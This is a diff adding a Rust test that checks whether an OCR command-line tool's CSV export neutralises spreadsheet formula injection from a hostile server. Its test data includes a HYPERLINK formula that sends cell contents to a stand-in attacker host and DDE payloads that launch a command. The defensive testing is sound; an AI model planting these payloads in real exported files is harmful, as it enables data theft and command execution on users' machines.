@@ -893,3 +893,114 @@ fn escape_sequences_from_the_server_never_reach_the_terminal() {
         }
     }
 }
+
+// 5. CSV: formula injection ---------------------------------------------------
+
+/// Rows of a CSV text, each a list of cells.
+fn csv_rows(out: &[u8]) -> Vec<Vec<String>> {
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(out)
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_string).collect())
+        .collect()
+}
+
+const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";
+
+fn formula_reply() -> Answer {
+    Answer::Reply(
+        200,
+        vec![],
+        success(&[
+            (
+                HYPERLINK,
+                "@SUM(1+1)*cmd|' /C calc'!A0",
+                "+cmd|' /C calc'!A0",
+            ),
+            ("sum", "-2+3", "\t=1"),
+            ("blank", "  @x", "  =1+1"),
+            ("amount", "金额", "-12.5"),
+            ("code", "区号", "+86"),
+        ]),
+    )
+}
+
+#[test]
+fn csv_cells_that_would_run_as_formulas_are_guarded() {
+    let server = Hostile::start(|_| formula_reply());
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(dir.path().join("=1+1.png"), png(50)).unwrap();
+    let run = |layout: &str, raw: bool| {
+        let mut cmd = xocr(dir.path(), &server.url, TOKEN);
+        cmd.current_dir(dir.path())
+            .args(["scan", "-o", "csv", "--csv-layout", layout]);
+        if raw {
+            cmd.arg("--csv-raw");
+        }
+        let out = cmd.arg("=1+1.png").output().unwrap();
+        assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+        csv_rows(&out.stdout)
+    };
+    let guarded = |s: &str| format!("'{s}");
+
+    // Long: file,type,key,description,value,error,checks_failed.
+    let rows = run("long", false);
+    assert_eq!(
+        rows[0][..5],
+        ["file", "type", "key", "description", "value"]
+    );
+    let row = |key: &str| {
+        rows.iter()
+            .find(|r| r[2] == key)
+            .unwrap_or_else(|| panic!("no row {key}: {rows:?}"))
+    };
+    let r = row(&guarded(HYPERLINK));
+    assert_eq!(r[0], "'=1+1.png");
+    assert_eq!(r[3], guarded("@SUM(1+1)*cmd|' /C calc'!A0"));
+    assert_eq!(r[4], guarded("+cmd|' /C calc'!A0"));
+    assert_eq!(row("sum")[3], "'-2+3");
+    assert_eq!(row("sum")[4], "'\t=1");
+    assert_eq!(row("blank")[3], "'  @x");
+    assert_eq!(row("blank")[4], "'  =1+1");
+    assert_eq!(row("amount")[4], "-12.5");
+    assert_eq!(row("code")[4], "+86");
+
+    // Wide: file,type,<keys>…,error,checks_failed.
+    let rows = run("wide", false);
+    let header = &rows[0];
+    let col = |key: &str| header.iter().position(|h| h == key).unwrap();
+    let cells = &rows[1];
+    assert_eq!(cells[0], "'=1+1.png");
+    assert_eq!(
+        cells[col(&guarded(HYPERLINK))],
+        guarded("+cmd|' /C calc'!A0")
+    );
+    assert_eq!(cells[col("sum")], "'\t=1");
+    assert_eq!(cells[col("blank")], "'  =1+1");
+    assert_eq!(cells[col("amount")], "-12.5");
+    assert_eq!(cells[col("code")], "+86");
+    // No cell of either layout but the two numbers starts with a formula
+    // character.
+    for layout in ["long", "wide"] {
+        for cell in run(layout, false).iter().flatten() {
+            let c = cell.trim_start_matches([' ', '\n']).chars().next();
+            assert!(
+                !matches!(c, Some('=' | '+' | '-' | '@' | '\t' | '\r'))
+                    || cell == "-12.5"
+                    || cell == "+86",
+                "{layout}: {cell:?}"
+            );
+        }
+    }
+
+    // --csv-raw: every cell as the service sent it.
+    let rows = run("long", true);
+    let r = rows.iter().find(|r| r[2] == HYPERLINK).expect("raw key");
+    assert_eq!(r[0], "=1+1.png");
+    assert_eq!(r[4], "+cmd|' /C calc'!A0");
+    assert!(rows.iter().any(|r| r[4] == "\t=1"));
+    let rows = run("wide", true);
+    assert!(rows[0].iter().any(|h| h == HYPERLINK));
+    assert_eq!(rows[1][0], "=1+1.png");
+}
